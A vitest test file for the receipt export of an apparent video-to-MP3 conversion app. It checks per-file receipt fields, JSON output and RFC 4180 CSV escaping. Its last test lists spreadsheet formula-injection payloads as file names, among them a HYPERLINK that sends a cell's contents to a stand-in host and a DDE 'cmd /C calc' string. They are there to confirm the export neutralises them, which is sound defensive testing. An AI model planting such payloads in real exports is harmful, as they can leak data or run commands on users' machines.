import { describe, expect, test } from 'vitest';
import type { JournalEntry } from '../../../electron/run/journal-entries.ts';
import { receiptCsv, receiptJson, receiptOf } from '../../../electron/run/receipt.ts';
import { viewOf } from '../../../shared/failure.ts';

const at = '2026-11-23T10:00:00.000Z';
const runId = 'bt-20261123-100000-abcd';

function journal(names: readonly string[], rest: readonly JournalEntry[] = []): readonly JournalEntry[] {
  return [
    {
      ...{ type: 'run', at, runId, appVersion: '0.1.0', connectionId: 'local' },
      options: {
        ...{ quality: 'v2', outputFolder: '/out', downloadAsCompleted: true, timeLimitMinutes: 30 },
        cleanUp: { pool: true, job: true, output: true },
      },
      items: names.map((name, index) => ({
        ...{ itemId: `i${index}`, path: `/in/${name}`, name, folder: 'Trip' },
        ...{ sizeBytes: 1000, modifiedMs: 1, durationS: 2.5, chosenTrack: 0 },
      })),
    },
    ...rest,
  ];
}

const facts = {
  ...{ nodeId: 'tvm-1', exitCode: 0, startedAt: at, endedAt: '2026-11-23T10:00:02.000Z' },
  ...{ sha256: 'ab'.repeat(32), outputDurationS: 2.51 },
};
const downloaded = (itemId: string, taskId: string, attempt: number): JournalEntry => ({
  ...{ type: 'item', at: '2026-11-23T10:00:03.000Z', itemId, taskId, attempt, phase: 'downloaded' },
  ...{ failure: null, outputPath: '/out/Trip/a.mp3', outputBytes: 400, facts },
});
const tasks = (taskId: string): JournalEntry => ({
  ...{ type: 'tasks', at, jobId: runId, tasks: [{ itemId: 'i0', taskId }] },
});
const failed: JournalEntry = {
  ...{ type: 'item', at, itemId: 'i0', taskId: 't00001', attempt: 1, phase: 'failed' },
  ...{ failure: viewOf('conversionFailed'), outputPath: null, outputBytes: null },
  facts: { nodeId: 'tvm-1', exitCode: 1, startedAt: at, endedAt: at },
};

/** The cells of a CSV, read as RFC 4180 says. */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, ending] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (ending === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('a receipt', () => {
  test('tells of each file what was sent, what came of it, where it ran and what its MP3 is', () => {
    const receipt = receiptOf(journal(['a.mp4', 'b.mp4'], [tasks('t00001'), downloaded('i0', 't00001', 1)]));
    expect(receipt?.items).toEqual([
      {
        ...{ name: 'a.mp4', folder: 'Trip', sourceBytes: 1000, sourceSeconds: 2.5, state: 'downloaded' },
        ...{ failureCode: null, mp3Path: '/out/Trip/a.mp3', mp3Bytes: 400, mp3Seconds: 2.51 },
        ...{ mp3Sha256: 'ab'.repeat(32), taskId: 't00001', nodeId: 'tvm-1', exitCode: 0, attempts: 1 },
        ...{ startedAt: facts.startedAt, endedAt: facts.endedAt, settledAt: '2026-11-23T10:00:03.000Z' },
      },
      expect.objectContaining({ name: 'b.mp4', state: 'waiting', mp3Sha256: null, taskId: null }),
    ]);
  });

  test('tells of a file that failed by which code, and forgets that once another attempt has begun', () => {
    const first = receiptOf(journal(['a.mp4'], [tasks('t00001'), failed]));
    expect(first?.items[0]).toMatchObject({
      ...{ state: 'failed', failureCode: 'conversionFailed', exitCode: 1, nodeId: 'tvm-1', mp3Path: null },
    });
    const second = receiptOf(journal(['a.mp4'], [tasks('t00001'), failed, tasks('t00001-2')]));
    expect(second?.items[0]).toMatchObject({
      ...{ state: 'submitted', failureCode: null, exitCode: null, nodeId: null, taskId: 't00001-2' },
    });
  });

  test('of a journal that is not that of a run there is none', () => {
    expect(receiptOf([])).toBeNull();
    expect(receiptOf([tasks('t00001')])).toBeNull();
  });

  test('as JSON is the receipt itself', () => {
    const receipt = receiptOf(journal(['a.mp4'], [downloaded('i0', 't00001', 1)]));
    if (receipt === null) throw new Error('no receipt');
    expect(JSON.parse(receiptJson(receipt))).toEqual(receipt);
  });

  test('as CSV begins with the mark that Excel needs, has a row a file, and every name comes back whole', () => {
    const names = ['a, b.mp4', '"quoted".mp4', 'línea\r\nnueva.mp4', 'día;2.mp4', ' blank .mp4', 'ñandú.mp4'];
    const receipt = receiptOf(journal(names));
    if (receipt === null) throw new Error('no receipt');
    const csv = receiptCsv(receipt);
    expect(csv.startsWith('\uFEFFname,folder,sourceBytes,')).toBe(true);
    const rows = cells(csv.slice(1));
    expect(rows.slice(1).map(([name]) => name)).toEqual(names);
    for (const row of rows) expect(row).toHaveLength(17);
  });

  test.each([
    '=HYPERLINK("http://x/?"&A1,"open").mp4',
    '+1+1.mp4',
    "-2+3+cmd|' /C calc'!A0.mp4",
    '@SUM(A1).mp4',
    '\t=1+1.mp4',
    '\r=1+1.mp4',
    ' =1+1.mp4',
    '\u200b=1+1.mp4',
    '＝1+1.mp4',
    '%0A=1.mp4',
  ])('shows a name that a spreadsheet would run, and lets nothing run: %j', (name) => {
    const receipt = receiptOf(journal([name]));
    if (receipt === null) throw new Error('no receipt');
    const [, row] = cells(receiptCsv(receipt).slice(1));
    expect(row?.[0]).toBe(`'${name}`);
  });
});
